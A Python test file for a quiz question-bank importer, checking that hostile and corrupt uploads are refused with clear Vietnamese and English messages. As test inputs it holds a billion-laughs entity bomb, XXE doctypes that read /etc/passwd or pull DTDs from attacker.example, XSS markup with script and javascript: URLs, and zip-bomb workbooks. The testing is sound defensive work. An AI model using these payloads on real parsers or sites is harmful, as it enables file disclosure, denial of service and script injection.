"""Hostile and damaged files end as clear, located problems: never an exception, a hang or a leak."""

import io
import os
import random
import zipfile

import pytest
from qb_samples import single_question
from zip_bombs import zip_bomb

from question_bank.formats import EXTENSIONS, FORMATS, MAX_FILE_BYTES, MAX_QUESTIONS, read, write
from question_bank.formats.xlsx import MAX_UNCOMPRESSED_BYTES

QUESTION = (
    '<question type="multichoice"><name><text>Q</text></name><questiontext><text>{stem}</text></questiontext>'
    '<answer fraction="100"><text>a</text></answer><answer fraction="0"><text>b</text></answer></question>'
)
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz>""" + QUESTION.format(stem="&lol9;").encode() + b"</quiz>"

XML_FORBIDDEN_VI = (
    "tệp XML chứa khai báo DTD, thực thể (entity) hoặc tham chiếu ra ngoài; vì lý do an toàn, "
    "các khai báo này không được phép"
)


def only_problem(result):
    assert not result.ok and result.questions == []
    [problem] = result.problems
    return problem


def test_entity_expansion_billion_laughs_is_refused():
    problem = only_problem(read(BILLION_LAUGHS, "bomb.xml"))
    assert problem.code == "xml_forbidden" and problem.location.line == 2
    assert problem.describe() == f"bomb.xml, dòng 2: {XML_FORBIDDEN_VI}"
    assert "DTD" in problem.message("en")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE quiz [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
        '<!DOCTYPE quiz [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>',
        '<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">',
        "<!DOCTYPE quiz>",
    ],
)
def test_external_entities_and_any_dtd_are_refused_without_being_fetched(doctype):
    data = f'<?xml version="1.0"?>\n{doctype}\n<quiz>{QUESTION.format(stem="&xxe;")}</quiz>'.encode()
    problem = only_problem(read(data, "xxe.xml"))
    assert problem.code == "xml_forbidden" and problem.location.line == 2
    assert "root:" not in repr(problem)


def test_scripts_and_event_handlers_in_moodle_html_are_stripped():
    stem = (
        "<![CDATA[<p onclick=\"steal()\">Thủ đô Lào?<script>alert(1)</script><iframe src=\"https://evil.example\"></iframe>"
        "<img src=\"x.png\" onerror=\"alert(2)\"><img src=\"javascript:alert(3)\"><a href=\"javascript:alert(4)\">link</a>"
        "<style>body{display:none}</style></p>]]>"
    )
    data = f'<?xml version="1.0"?>\n<quiz>{QUESTION.format(stem=stem)}</quiz>'.encode()
    [question] = read(data, "xss.xml").question_list
    assert question.stem == {"vi": '<p>Thủ đô Lào?<img src="x.png"><img>link</p>'}


@pytest.fixture
def openpyxl_untouched(monkeypatch):
    """Fails the test if openpyxl opens the workbook: the refusal must come from the declared sizes alone."""
    import openpyxl

    def opened(*args, **kwargs):
        raise AssertionError("openpyxl.load_workbook was called")

    monkeypatch.setattr(openpyxl, "load_workbook", opened)


def test_a_zip_bomb_workbook_is_refused_before_it_is_inflated(openpyxl_untouched):
    data = zip_bomb(MAX_UNCOMPRESSED_BYTES + 1)
    assert len(data) < 1024 * 1024  # a small file on the wire
    problem = only_problem(read(data, "bomb.xlsx"))
    assert problem.code == "xlsx_too_large"
    assert problem.message() == (
        "tệp Excel khi giải nén quá lớn (40.1 MB; tối đa 40 MB): tệp bị hỏng hoặc không an toàn («zip bomb»)"
    )


def test_the_probes_95_megabyte_bomb_is_refused_without_openpyxl_opening_it(openpyxl_untouched):
    """Issue 15, #12: 291 KB on the wire, 95 MB unpacked, 14 s of a request thread in openpyxl."""
    problem = only_problem(read(zip_bomb(95 * 1024 * 1024), "bomb.xlsx"))
    assert problem.code == "xlsx_too_large"
    assert "tối đa 40 MB" in problem.message()


def test_a_workbook_packed_like_a_bomb_is_refused_under_the_size_limit_without_openpyxl(openpyxl_untouched):
    problem = only_problem(read(zip_bomb(20 * 1024 * 1024), "nen.xlsx"))
    assert problem.code == "xlsx_compression_ratio"
    assert problem.describe("en") == (
        "nen.xlsx: the Excel file is packed abnormally (part “xl/worksheets/sheet1.xml” unpacks to 20.1 MB, more "
        "than 100 times its packed size): it is damaged or unsafe (a “zip bomb”)")


def test_a_real_ten_thousand_question_workbook_passes_the_archive_checks():
    from question_bank.formats.archive import check_archive

    many = [single_question(key=f"cau-{i}", stem={"vi": f"Câu hỏi {i} về ASEAN?", "en": f"Question {i}?"})
            for i in range(10_000)]
    assert check_archive(write(many, "xlsx"), max_bytes=MAX_UNCOMPRESSED_BYTES) is None


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04" + os.urandom(2048),  # looks like a zip, is not
        b"\x00\x01\x02binary" * 300,  # not a zip at all, named .xlsx
        None,  # a zip holding a Word document
    ],
)
def test_files_that_are_not_workbooks_are_refused_with_advice(data):
    if data is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("word/document.xml", "<document/>")
        data = buffer.getvalue()
    problem = only_problem(read(data, "cau-hoi.xlsx", format="xlsx"))
    assert problem.code == "not_xlsx"
    assert problem.describe() == (
        "cau-hoi.xlsx: tệp không phải là tệp Excel (.xlsx) hợp lệ; "
        "hãy mở tệp bằng Excel và lưu lại dưới dạng Excel Workbook (.xlsx)"
    )


def test_a_ten_megabyte_file_of_junk_is_a_clear_problem():
    data = random.Random(7).randbytes(10_000_000)  # 10 MB, just under the limit
    problem = only_problem(read(data, "du-lieu.xlsx"))
    assert problem.code == "not_xlsx"


@pytest.mark.parametrize("fmt", [None, *FORMATS])
def test_files_over_the_size_limit_are_refused_before_reading(fmt):
    data = write([single_question()], "gift") + b" " * MAX_FILE_BYTES
    problem = only_problem(read(data, "lon.gift", format=fmt))
    assert problem.code == "file_too_large"
    assert problem.describe() == "lon.gift: tệp quá lớn (10.1 MB; tối đa 10 MB); hãy chia câu hỏi thành nhiều tệp nhỏ hơn"
    assert read(data, "lon.gift", max_bytes=None).ok  # the limit can be lifted by the caller


@pytest.mark.parametrize("fmt", FORMATS)
def test_random_bytes_never_raise_in_any_reader(fmt):
    rng = random.Random(fmt)
    for size in (1, 7, 100, 5000):
        result = read(rng.randbytes(size), f"rac.{fmt}", format=fmt)
        assert not result.ok and result.questions == []
        for problem in result.problems:
            assert problem.describe() and problem.describe("en")


@pytest.mark.parametrize("fmt", ["json", "csv", "moodle-xml", "gift", "aiken"])
def test_truncated_files_give_problems_not_exceptions(fmt):
    data = write([single_question(), single_question(key="hist-002", name="Khác")], fmt if fmt != "aiken" else "aiken")
    for cut in (len(data) // 3, len(data) // 2, len(data) - 5):
        result = read(data[:cut], f"cut.{fmt}", format=fmt)
        for problem in result.problems:
            assert problem.describe()


def test_a_reader_bug_becomes_a_problem(monkeypatch):
    from question_bank import formats

    def broken(*args, **kwargs):
        raise KeyError("boom")

    monkeypatch.setitem(formats._READERS, "gift", broken)
    problem = only_problem(read(b"::Q:: x {=a ~b}", "a.gift"))
    assert problem.code == "syntax" and "KeyError" in problem.message()


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_file_over_the_questions_limit_is_refused_naming_the_limit_and_the_file(fmt):
    many = [single_question(key=f"cau-{i}", name=f"Câu {i}", stem={"vi": f"Câu hỏi số {i} về ASEAN?", "en": f"Question {i} on ASEAN?"})
            for i in range(6)]
    data = write(many, fmt)
    problem = only_problem(read(data, f"nhieu-cau{EXTENSIONS[fmt]}", max_questions=5))
    assert problem.code == "too_many_questions"
    assert problem.describe() == (f"nhieu-cau{EXTENSIONS[fmt]}: tệp có hơn 5 câu hỏi, quá giới hạn của một lần "
                                  "nhập; hãy chia thành các tệp có tối đa 5 câu")
    assert problem.describe("en") == (f"nhieu-cau{EXTENSIONS[fmt]}: the file has more than 5 questions, the limit "
                                      "of one import; split it into files of at most 5 questions")
    assert read(data, "nhieu-cau" + EXTENSIONS[fmt], max_questions=6).ok
    assert read(data, "nhieu-cau" + EXTENSIONS[fmt], max_questions=None).ok  # the caller may lift it
    assert MAX_QUESTIONS == 10_000  # the documented default (docs/banks.md)


def test_reading_stops_at_the_question_after_the_limit():
    """What lies past the limit is never read: a broken row there is not reported, only the limit."""
    many = [single_question(key=f"cau-{i}", name=f"Câu {i}", stem={"vi": f"Câu hỏi {i}?", "en": f"Question {i}?"})
            for i in range(6)]
    data = write(many, "csv") + "cau-x,loại lạ,,,,,\r\n".encode()
    assert [p.code for p in read(data, "cau-hoi.csv", max_questions=7).problems] != []  # the row is broken
    assert only_problem(read(data, "cau-hoi.csv", max_questions=5)).code == "too_many_questions"
